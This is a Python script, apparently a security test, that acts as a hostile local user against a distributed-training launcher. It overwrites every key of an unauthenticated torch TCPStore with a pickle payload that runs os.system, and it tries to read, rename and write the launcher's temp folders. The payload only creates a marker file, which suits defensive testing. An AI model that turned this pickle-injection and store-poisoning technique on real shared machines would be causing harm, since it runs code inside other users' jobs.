"""An attacker: another user of this machine, who writes wherever the processes of a job meet.

    intruder.py HOST PORT FILE     under every key of a store; a process that unpickles a value creates FILE
    intruder.py FOLDER             in the folders of launchers there

Without the right to become another user, it remains this one: a store on a port authenticates nobody.
"""

from __future__ import annotations

import base64
import os
import pickle
import sys
import time
from collections.abc import Callable
from datetime import timedelta

from torch.distributed import TCPStore

NOBODY = 65534
SECONDS = 5.0


class Payload:
    """Runs a command in the process that unpickles it."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch '{self.file}'",)


def become_nobody() -> None:
    """Give up all rights of root permanently."""
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


def overwrite(store: TCPStore, payload: bytes) -> int:
    """Write the payload under every key, encoded as the store's users do. Return the number of keys."""
    keys = store.list_keys()
    for number, key in enumerate(keys):
        name = key.removeprefix("/")
        store.set(name, base64.b64encode(payload) if number % 2 == 0 or "rendezvous" in name else payload)
    return len(keys)


def overwrite_all(host: str, port: str, file: str) -> None:
    """Write under all keys for some seconds, or until the store is gone."""
    payload = pickle.dumps(Payload(file))
    until, written = time.monotonic() + SECONDS, 0
    try:
        store = TCPStore(host, int(port), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
        while time.monotonic() < until:
            written += overwrite(store, payload)
            time.sleep(0.05)
    except RuntimeError as error:
        print(f"the store is gone: {str(error).splitlines()[0]}")
    print(f"user {os.geteuid()} wrote {written} values", flush=True)


def enter(place: str) -> None:
    """Wait for folders of launchers in a folder such as /tmp, and try to list, rename and write them."""
    print("waiting", flush=True)
    until = time.monotonic() + 60
    while time.monotonic() < until and not any(name.startswith("megapar-launch-") for name in os.listdir(place)):
        time.sleep(0.01)
    folders = [entry.path for entry in os.scandir(place) if entry.name.startswith("megapar-launch-")]
    kept_out = 0
    for folder in folders:
        attempts = (
            lambda folder=folder: os.listdir(folder),
            lambda folder=folder: os.rename(folder, f"{folder}-mine"),
            lambda folder=folder: os.close(os.open(f"{folder}/ranks-1", os.O_RDWR | os.O_CREAT)),
        )
        kept_out += sum(is_refused(attempt) for attempt in attempts) == len(attempts)
    print(f"user {os.geteuid()} was kept out of {kept_out} of {len(folders)} folders", flush=True)


def is_refused(attempt: Callable[[], object]) -> bool:
    """Return True if the system refuses the attempt."""
    try:
        attempt()
    except PermissionError:
        return True
    return False


if __name__ == "__main__":
    become_nobody()
    enter(sys.argv[1]) if len(sys.argv) == 2 else overwrite_all(*sys.argv[1:])
